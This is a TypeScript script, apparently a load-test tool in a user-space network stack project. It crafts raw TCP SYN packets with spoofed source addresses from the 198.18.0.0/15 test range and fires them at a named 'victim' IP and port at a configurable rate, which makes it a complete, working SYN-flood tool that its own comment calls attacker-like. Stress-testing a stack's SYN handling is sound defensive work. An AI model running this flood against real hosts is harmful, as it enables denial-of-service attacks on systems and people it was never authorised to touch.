// Sends SYNs as fast as is asked for, each from an address and port of nobody's (RFC 2544's test network), as an
// attacker does. Arguments: interface, Ethernet address of the router, IPv4 address and port of the victim, count, per second.
import { type MacAddr, parseIpv4, parseMac } from '../../src/base/address.ts'
import { checksum, foldSum, pseudoSum } from '../../src/base/checksum.ts'
import type { Micros } from '../../src/base/types.ts'
import { openPacketLink } from '../../src/index.ts'
import { HEADROOM, OutFrame } from '../../src/link/link.ts'

const [name, router, victim, port, count, rate] = process.argv.slice(2) as [
  string,
  string,
  string,
  string,
  string,
  string,
]
const NOW = 0 as Micros
const TICK_MS = 5
const NOBODY = parseIpv4('198.18.0.0')!
const NOBODIES = 1 << 17
/** mss 1460, SACK permitted, timestamps, window scale 7. */
const OPTIONS = [0x020405b4, 0x0402080a, 0x00000001, 0x00000000, 0x01030307]
const IP = HEADROOM - 20
const TCP_LENGTH = 20 + 4 * OPTIONS.length

const link = openPacketLink({ interface: name, addresses: [] })
const dst = parseIpv4(victim)!
const frame = new OutFrame()
const { view } = frame

function writeMac(at: number, mac: MacAddr): void {
  view.setUint16(at, Math.floor(mac / 0x100000000))
  view.setUint32(at + 2, mac % 0x100000000)
}

function sendSyn(i: number): void {
  const src = NOBODY + ((Math.imul(i, 0x9e3779b1) >>> 15) % NOBODIES)
  frame.reset()
  frame.start = IP - 14
  writeMac(IP - 14, parseMac(router)!)
  writeMac(IP - 8, link.mac!)
  view.setUint16(IP - 2, 0x0800)
  view.setUint32(IP, 0x4500_0000 | (20 + TCP_LENGTH))
  view.setUint32(IP + 4, 0)
  view.setUint32(IP + 8, 0x4006_0000)
  view.setUint32(IP + 12, src)
  view.setUint32(IP + 16, dst)
  view.setUint16(IP + 10, checksum(frame.bytes, IP, HEADROOM))
  view.setUint32(HEADROOM, ((1024 + (i % 60_000)) << 16) | Number(port))
  view.setUint32(HEADROOM + 4, Math.imul(i, 0x85ebca6b))
  view.setUint32(HEADROOM + 8, 0)
  view.setUint32(HEADROOM + 12, ((TCP_LENGTH / 4) << 28) | (0x02 << 16) | 64_240)
  view.setUint32(HEADROOM + 16, foldSum(pseudoSum(src, dst, 6, TCP_LENGTH)) << 16)
  for (const [n, word] of OPTIONS.entries()) view.setUint32(HEADROOM + 20 + 4 * n, word)
  frame.end = HEADROOM + TCP_LENGTH
  frame.checksumStart = 34
  frame.checksumOffset = 16
  link.send(frame, NOW)
}

let sent = 0
const timer = setInterval(() => {
  const until = Math.min(Number(count), sent + (Number(rate) * TICK_MS) / 1000)
  while (sent < until) sendSyn(sent++)
  link.flush(NOW)
  link.receive(NOW, () => {})
  if (sent < Number(count)) return
  clearInterval(timer)
  link.close()
  console.log(`sent ${sent}`)
}, TICK_MS)
